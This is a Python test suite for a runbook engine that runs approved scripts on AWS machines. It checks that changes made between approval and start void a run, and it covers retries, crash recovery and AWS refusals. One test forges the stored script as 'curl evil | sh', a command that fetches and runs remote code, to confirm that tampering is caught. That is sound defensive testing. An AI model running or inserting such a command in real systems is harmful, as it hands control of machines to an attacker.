"""A run starts at most once, and only what was approved by people who still may."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from engine.audit import AuditKind
from engine.company import Role
from engine.errors import Ambiguous, Permanent, Transient
from runbooks.approvals import digest
from runbooks.carry_out import Send
from runbooks.operations import carry
from runbooks.operations.decide import approve
from runbooks.run import RunStatus
from tests.runbooks.memory import (
    ACME,
    ASSETS,
    CLOUD,
    KIM,
    MAX,
    NOW,
    PEOPLE,
    ROLE,
    Memory,
    acting,
    later,
)
from tests.runbooks.provider import (
    Provider,
    turn,
)
from tests.runbooks.test_request import LIBRARY, ask


async def test_the_order_carries_account_people_and_script() -> None:
    tx = Memory()
    asked = await ask(tx, "restart-service")
    await approve(tx, asked.id, asked.digest, actor=acting(MAX), catalogue=LIBRARY, now=NOW)
    step = await carry.next_step(tx, asked.id, catalogue=LIBRARY, now=NOW)
    assert isinstance(step, Send)
    order = step.order
    assert (order.cloud.role_arn, order.cloud.external_id, order.account) == (
        ROLE,
        "acme-1234",
        "222222222222",
    )
    assert (order.executor, order.approver) == ("aws_ssm", "Max")
    assert order.session_name == f"aw-{asked.id}-Max"
    assert order.session_tags == {"aw-run": asked.id, "aw-requested-by": "Kim", "aw-approved-by": "Max"}
    assert (order.script, order.comment) == (asked.script, f"aw {asked.id} main")
    assert len(order.comment) <= 100


@pytest.mark.parametrize(
    "name", ["Max", "Zoë Müller-Lüdenscheidt (on call, second line) 🙂" * 3, "", "小林", "--"]
)
def test_a_session_name_is_always_acceptable(name: str) -> None:
    assert re.fullmatch(r"[A-Za-z0-9_=,.@-]{2,64}", carry.session_name("0" * 26, name))


def demoted(tx: Memory) -> None:
    tx.change(people=tuple(replace(one, role=Role.TECHNICIAN) if one == MAX else one for one in PEOPLE))


def moved(tx: Memory) -> None:
    tx.change(assets=(replace(ASSETS[0], cloud_ref="i-0zzz"), *ASSETS[1:]))


def other_account(tx: Memory) -> None:
    tx.change(company=replace(ACME, clouds=(replace(CLOUD, role_arn=ROLE.replace("2", "3")),)))


def parameters(tx: Memory) -> None:
    (run,) = tx.runs.found.values()
    tx.runs.found[run.id] = replace(run, parameters={**run.parameters, "unit": "sshd"})


def fresh_digest(tx: Memory) -> None:
    """Somebody who can write to the database changes the script and the digest with it."""
    (run,) = tx.runs.found.values()
    forged = replace(run, script="curl evil | sh")
    tx.runs.found[run.id] = replace(forged, digest=digest(forged))


@pytest.mark.parametrize(
    ("meanwhile", "why"),
    [
        (demoted, "Max, who approved it, may no longer do so"),
        (lambda tx: tx.change(people=tuple(one for one in PEOPLE if one != MAX)), "nobody who is known here"),
        (lambda tx: tx.change(people=tuple(one for one in PEOPLE if one != KIM)), "Kim, who asked for it"),
        (moved, "acme-web-01 is no longer the machine it was"),
        (other_account, "AWS account is no longer 222222222222"),
        (lambda tx: tx.change(company=replace(ACME, archived_at=NOW)), "the company is archived"),
        (parameters, "not those that were approved"),
        (fresh_digest, "its runbook changed"),
    ],
)
async def test_what_changed_between_approval_and_start_makes_it_void(meanwhile: Any, why: str) -> None:
    tx, provider = Memory(), Provider()
    asked = await ask(tx, "restart-service")
    await approve(tx, asked.id, asked.digest, actor=acting(MAX), catalogue=LIBRARY, now=NOW)
    meanwhile(tx)
    done = await turn(tx, asked.id, provider)
    assert done.status is RunStatus.VOID
    assert why in done.outcome
    assert provider.asked == []
    assert tx.audit.kinds()[-1] is AuditKind.RUN_VOIDED
    assert why in tx.said()


@pytest.mark.parametrize("status", [RunStatus.PENDING_APPROVAL, RunStatus.CANCELLED, RunStatus.REJECTED])
async def test_what_is_not_approved_is_never_sent(status: RunStatus) -> None:
    tx, provider = Memory(), Provider()
    run = await ask(tx)
    tx.runs.found[run.id] = replace(run, status=status)
    assert (await turn(tx, run.id, provider)).status is status
    assert provider.asked == []


async def test_after_a_crash_while_starting_it_is_looked_up_and_not_sent_again() -> None:
    tx, provider = Memory(), Provider(finds=[{"command_id": "c-earlier"}])
    run = await ask(tx)
    await carry.next_step(
        tx, run.id, catalogue=LIBRARY, now=NOW
    )  # `starting` is committed, then the process dies
    done = await turn(tx, run.id, provider)
    assert provider.asked == ["find main"]
    assert (done.status, done.reference["main"]) == (RunStatus.RUNNING, {"command_id": "c-earlier"})


async def test_a_crash_that_left_no_trace_at_the_provider_waits_for_a_person() -> None:
    tx, provider = Memory(), Provider()
    run = await ask(tx)
    await carry.next_step(tx, run.id, catalogue=LIBRARY, now=NOW)
    done = await turn(tx, run.id, provider)
    assert provider.asked == ["find main"]
    assert done.status is RunStatus.UNKNOWN
    assert "Somebody has to look at acme-web-01" in done.outcome


@pytest.mark.parametrize(
    ("found", "status"), [({"command_id": "c9"}, RunStatus.RUNNING), (None, RunStatus.UNKNOWN)]
)
async def test_a_lost_reply_is_looked_up(found: Any, status: RunStatus) -> None:
    tx, provider = Memory(), Provider(starts=[Ambiguous("AWS did not answer SendCommand.")], finds=[found])
    run = await ask(tx)
    done = await turn(tx, run.id, provider)
    assert provider.asked == ["start main", "find main"]
    assert done.status is status


async def test_a_look_up_that_fails_is_tried_again_and_sends_nothing() -> None:
    tx = Memory()
    provider = Provider(
        starts=[Ambiguous("lost")], finds=[Transient("away"), Transient("away"), {"command_id": "c9"}]
    )
    run = await ask(tx)
    assert (await turn(tx, run.id, provider)).status is RunStatus.STARTING
    assert tx.due("start_run") == later(5)
    assert (await turn(tx, run.id, provider)).status is RunStatus.STARTING
    assert (await turn(tx, run.id, provider)).status is RunStatus.RUNNING
    assert provider.asked == ["start main", "find main", "find main", "find main"]


@pytest.mark.parametrize("error", [Transient("away"), Permanent("The role may not look.")])
async def test_a_look_up_that_never_works_ends_with_a_person(error: Exception) -> None:
    tx, provider = Memory(), Provider(starts=[Ambiguous("lost")], finds=[error] * 9)
    run = await ask(tx)
    await turn(tx, run.id, provider)
    done = await turn(tx, run.id, provider, now=NOW + carry.PATIENCE)
    assert done.status is RunStatus.UNKNOWN
    assert provider.asked.count("start main") == 1


async def test_what_was_certainly_not_sent_is_tried_again_later() -> None:
    tx = Memory()
    throttled = Transient("AWS asks us to slow down.", retry_after=timedelta(seconds=9))
    provider = Provider(starts=[throttled])
    run = await ask(tx)
    waits = await turn(tx, run.id, provider)
    assert (waits.status, waits.waiting) == (RunStatus.APPROVED, "AWS asks us to slow down.")
    assert tx.due("start_run") == later(9)
    assert (await turn(tx, run.id, provider, now=later(9))).status is RunStatus.RUNNING


async def test_it_is_not_tried_for_ever() -> None:
    tx, provider = Memory(), Provider(starts=[Transient("away")] * 3)
    run = await ask(tx)
    await turn(tx, run.id, provider)
    done = await turn(tx, run.id, provider, now=NOW + carry.PATIENCE)
    assert (done.status, done.error) == (RunStatus.FAILED, "It could not be started for 15 minutes: away")


async def test_a_refusal_of_aws_is_on_the_card_word_for_word() -> None:
    tx, provider = Memory(), Provider(starts=[Permanent("AWS refused to assume arn:x: wrong external id.")])
    run = await ask(tx)
    done = await turn(tx, run.id, provider)
    assert (done.status, done.outcome) == (
        RunStatus.FAILED,
        "AWS refused to assume arn:x: wrong external id.",
    )
    assert done.outcome in tx.incidents.found[42].last_action
    assert tx.audit.kinds()[-1] is AuditKind.RUN_FINISHED
